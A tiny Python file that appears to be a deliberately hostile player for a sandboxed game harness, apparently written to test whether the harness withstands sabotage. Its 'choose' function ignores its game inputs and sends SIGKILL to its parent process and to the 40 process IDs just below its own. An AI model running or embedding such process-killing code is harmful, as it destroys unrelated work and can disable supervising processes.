"""Sends the strongest signal to its parent, its group, and every number near it."""

import os
import signal
import sys

import legal


def choose(heights, rows, seconds, number):
    for target in (os.getppid(), *range(os.getpid() - 40, os.getpid())):
        if target > 1 or target == os.getppid():
            try:
                os.kill(target, signal.SIGKILL)
                print(f"killed {target}", file=sys.stderr)
            except OSError:
                pass


legal.only_fenced()
legal.play(choose)
